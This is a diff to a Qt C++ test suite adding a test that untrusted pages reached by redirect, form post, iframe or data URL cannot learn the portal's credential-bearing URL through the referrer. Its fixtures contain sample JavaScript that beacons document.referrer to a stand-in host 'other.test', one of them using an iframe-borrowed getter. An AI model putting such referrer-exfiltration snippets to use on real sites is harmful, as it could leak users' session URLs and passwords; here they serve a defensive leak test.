@@ -22,6 +22,8 @@ private slots:
     void slotsInsideSlots();
     void everySlotAtAnyTime();
     void scriptsReachTheSlotsOnly();
+    void otherHostsLearnNothing_data();
+    void otherHostsLearnNothing();
     void loadsFromInsideTheBridge();
     void onlyTheLastWishIsLoaded();
     void loadsFromInsideAFocusHandler();
@@ -131,6 +133,47 @@ void StrangerPageTest::scriptsReachTheSlotsOnly()
     found.sort();
     QCOMPARE(found, expected);
     QVERIFY(portal.page->isEnabled() && portal.page->btnHome->isEnabled());
+}
+
+void StrangerPageTest::otherHostsLearnNothing_data()
+{
+    QTest::addColumn<QString>("body");
+    QTest::newRow("link") << QStringLiteral(
+        "<script>onload = function() { location = 'http://other.test/'; }</script>");
+    QTest::newRow("redirection") << QStringLiteral("<script>onload = function() { location = '/away'; }</script>");
+    QTest::newRow("post") << QStringLiteral("<form method='post' action='http://other.test/'></form>"
+                                            "<script>onload = function() { document.forms[0].submit(); }</script>");
+    QTest::newRow("frame") << QStringLiteral("<iframe src='http://other.test/'></iframe>");
+    QTest::newRow("picture and page without a host")
+        << QStringLiteral("<img src='http://other.test/picture'><script>onload = function() { location ="
+                          " 'data:text/html,' + escape(\"<script>new Image().src ="
+                          " 'http://other.test/saw?' + document.referrer + ',' + typeof VANTU;</\" + 'script>'); }"
+                          "</script>");
+}
+
+void StrangerPageTest::otherHostsLearnNothing()
+{
+    QFETCH(QString, body);
+    Portal portal;
+    portal.service.answer(QStringLiteral("/away"), {{}, 302, "http://other.test/"});
+    portal.service.answerUrl(QStringLiteral("http://other.test/"), {R"(<body><script>
+        var sTitle = 'stranger', sUserUid = 'stranger';
+        var frame = document.createElement('iframe');
+        document.body.appendChild(frame);
+        var theirs = frame.contentWindow;
+        var getter = theirs.Object.getOwnPropertyDescriptor(theirs.Document.prototype, 'referrer').get;
+        new Image().src = '/saw?' + document.referrer + getter.call(document) + ',' + typeof VANTU;
+    </script>)"});
+    portal.load(QStringLiteral("/vantu/?username=alice&pass=secret"),
+                TestService::page({{QStringLiteral("sTitle"), QStringLiteral("'service'")}}, body));
+    QTRY_VERIFY2(portal.service.urls().contains(QStringLiteral("http://other.test/saw?,undefined")),
+                 qPrintable(portal.service.urls().join(QLatin1Char('\n'))));
+    QTRY_VERIFY(!portal.page->progressIndicator->isVisible());
+    for (const TestService::Request &request : portal.service.requests())
+        QVERIFY2(request.url.startsWith(Portal::url(QString())) || !request.referer.contains("vantu.test"),
+                 qPrintable(request.url));
+    QVERIFY(portal.page->lblWebTitle->text() != QLatin1String("stranger"));
+    QCOMPARE(portal.page->userID, QString());
 }
 
 void StrangerPageTest::loadsFromInsideTheBridge()
